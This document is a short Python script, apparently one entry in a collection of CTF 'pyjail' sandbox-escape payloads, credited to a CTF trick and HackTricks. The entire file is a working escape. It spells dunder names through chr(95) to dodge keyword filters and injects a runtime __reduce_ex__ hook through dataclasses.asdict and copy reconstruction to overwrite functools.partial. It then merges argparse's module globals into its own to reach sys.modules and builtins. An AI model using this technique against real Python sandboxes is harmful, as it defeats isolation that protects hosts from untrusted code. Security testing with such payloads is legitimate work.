# source: CTF pyjail "__globals__ via functools.update_wrapper/wraps" + copy/pickle __reduce_ex__ gadget (copy._reconstruct slotstate setattr), HackTricks "bypass python sandboxes"
# family: type() passed as a value builds a class with a runtime-spelled __reduce_ex__; dataclasses.asdict -> copy.deepcopy -> _reconstruct does setattr(module, name, value); swap functools.partial to capture update_wrapper, then merge argparse's module globals (incl. _os) into the script's globals
# goal: reach module sys and builtins, list sys.modules (variant of 004)
import argparse
import dataclasses
import functools

D = chr(95) * 2
Meta = next(map(type, [int]))
grabbed = []


@dataclasses.dataclass
class Box:
    item: object


def grab(fn, **kw):
    grabbed.append(fn)
    return lambda f: f


def setter(obj, name, value):
    def hook(self, proto):
        return (lambda: obj, (), (None, dict(zip([name], [value]))))
    return hook


def set_attr(obj, name, value):
    ns = dict(zip([D + "reduce_ex" + D], [setter(obj, name, value)]))
    Hook = next(map(Meta, ["Hook"], [(object,)], [ns]))
    dataclasses.asdict(Box(Hook()))


fh = argparse.ArgumentParser.format_help
orig = functools.partial
set_attr(functools, "partial", grab)


@functools.wraps(fh)
def helper():
    return 0


set_attr(functools, "partial", orig)
uw = grabbed[0]
uw(helper, argparse.ArgumentParser.format_help, (), (D + "globals" + D,))


def run():
    print(_sys)
    mods = _sys.modules
    print(mods["builtins"], mods["subprocess"] if "subprocess" in mods else sorted(mods)[:40])


run()
